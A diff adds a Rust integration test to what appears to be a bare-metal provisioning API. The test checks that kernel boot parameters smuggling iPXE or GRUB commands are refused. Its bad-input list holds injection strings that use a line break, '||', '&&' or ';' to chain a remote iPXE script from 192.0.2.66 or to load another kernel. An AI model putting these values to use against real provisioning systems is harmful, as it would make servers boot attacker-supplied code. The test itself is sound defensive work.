@@ -997,3 +997,53 @@ async fn an_http_image_with_a_checksum_file_is_served_by_the_conductor() {
     s.stop().await;
     let _ = std::fs::remove_dir_all(&logs);
 }
+
+/// Kernel parameters that would add boot loader commands (a line break, iPXE's `||`
+/// and `&&`, GRUB's `;`) are refused when set, whatever the node boots by: `ipxe`,
+/// `pxe` or `redfish-virtual-media`, in `instance_info` as in `driver_info`; ordinary
+/// ones (and `%default%`) are taken.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn boot_loader_syntax_is_refused_for_every_boot_interface() {
+    let (s, logs) = server_without_cleaning().await;
+    for (driver, boot) in [
+        ("ipmi", "ipxe"),
+        ("ipmi", "pxe"),
+        ("redfish", "redfish-virtual-media"),
+    ] {
+        let n = s
+            .node(json!({"driver": driver, "boot_interface": boot,
+                         "driver_info": {"ipmi_address": "192.0.2.9",
+                                         "redfish_address": "http://192.0.2.9"}}))
+            .await;
+        let uuid = n["uuid"].as_str().unwrap();
+        for bad in [
+            "nofb\nchain http://192.0.2.66/x.ipxe\n#",
+            "nofb || chain http://192.0.2.66/x.ipxe",
+            "nofb && chain http://192.0.2.66/x.ipxe",
+            "nofb ; linux /evil",
+        ] {
+            for field in ["instance_info", "driver_info"] {
+                let r = s
+                    .patch(
+                        &format!("/v1/nodes/{uuid}"),
+                        V,
+                        &json!([{"op": "add", "path": format!("/{field}/kernel_append_params"), "value": bad}]),
+                    )
+                    .await;
+                assert_eq!(r.status, 400, "{boot} {field} {bad:?}: {}", r.body);
+                assert!(r.fault().contains("kernel parameters"), "{}", r.fault());
+            }
+        }
+        let r = s
+            .patch(
+                &format!("/v1/nodes/{uuid}"),
+                V,
+                &json!([{"op": "add", "path": "/instance_info/kernel_append_params",
+                         "value": "nofb console=ttyS0,115200n8 %default%"}]),
+            )
+            .await;
+        assert_eq!(r.status, 200, "{boot}: {}", r.body);
+    }
+    s.stop().await;
+    let _ = std::fs::remove_dir_all(&logs);
+}
